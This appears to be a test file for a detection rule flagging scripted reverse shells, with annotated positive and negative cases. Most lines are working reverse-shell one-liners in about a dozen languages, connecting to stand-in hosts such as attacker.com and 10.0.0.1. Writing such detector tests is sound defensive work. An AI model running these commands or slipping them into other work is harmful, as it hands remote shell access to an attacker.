# ruleid: bash.scripted-reverse-shell
python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'
# ruleid: bash.scripted-reverse-shell
perl -e 'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
# ruleid: bash.scripted-reverse-shell
php -r '$sock=fsockopen("attacker.com",12345);exec("/bin/sh -i 0<&3 1>&3 2>&3");'
# ruleid: bash.scripted-reverse-shell
ruby -rsocket -e 'exit if fork;c=TCPSocket.new("attacker.com","12345");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
# ruleid: bash.scripted-reverse-shell
lua -e 'local s=require("socket"); local t=assert(s.tcp()); t:connect("attacker.com",12345); while true do local r,x=t:receive();local f=assert(io.popen(r,"r")); t:send(f:read("*a")); end'
# ruleid: bash.scripted-reverse-shell
node -e 'sh = child_process.spawn("/bin/sh"); net.connect(12345, "attacker.com", function () {this.pipe(sh.stdin); sh.stdout.pipe(this); sh.stderr.pipe(this);})'
# ruleid: bash.scripted-reverse-shell
zsh -c 'zmodload zsh/net/tcp;ztcp attacker.com 12345;zsh >&$REPLY 2>&$REPLY 0>&$REPLY'
# ruleid: bash.scripted-reverse-shell
julia -e 'using Sockets; sock=connect("attacker.com", parse(Int64, 12345)); while true; cmd = readline(sock); run(pipeline(`$cmd`)); end'
# ruleid: bash.scripted-reverse-shell
powershell -nop -c "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$stream = $client.GetStream();while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$sendback = (iex $data 2>&1 | Out-String )}"
gawk 'BEGIN {
# ruleid: bash.scripted-reverse-shell
    s = "/inet/tcp/0/attacker.com/12345";
    while (1) {printf "> " |& s; if ((s |& getline c) <= 0) break; }}'
python -c 'import sys,socket,os,pty;s=socket.socket()
s.connect(("attacker.com",12345))
# ruleid: bash.scripted-reverse-shell
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
pty.spawn("/bin/sh")'
# ok: bash.scripted-reverse-shell
python3 -c 'import socket; print(socket.gethostname())'
# ruleid: bash.scripted-reverse-shell
node -e 'sh = require("child_process").spawn("/bin/sh"); require("net").connect(4444, "attacker.com", function () { this.pipe(sh.stdin); sh.stdout.pipe(this); })'
# ok: bash.scripted-reverse-shell
node -e 'require("net").connect(80, "example.com").end()'
# ok: bash.scripted-reverse-shell
node -e 'require("net").createServer(s => s.end("hello")).listen(8080)'
# ok: bash.scripted-reverse-shell
python -m http.server 8000
# ok: bash.scripted-reverse-shell
ruby -rsocket -e 'puts Socket.gethostname'
# ruleid: bash.scripted-reverse-shell
echo 'set s [socket attacker.com 12345];while 1 { puts -nonewline $s "> ";flush $s;gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }' | tclsh
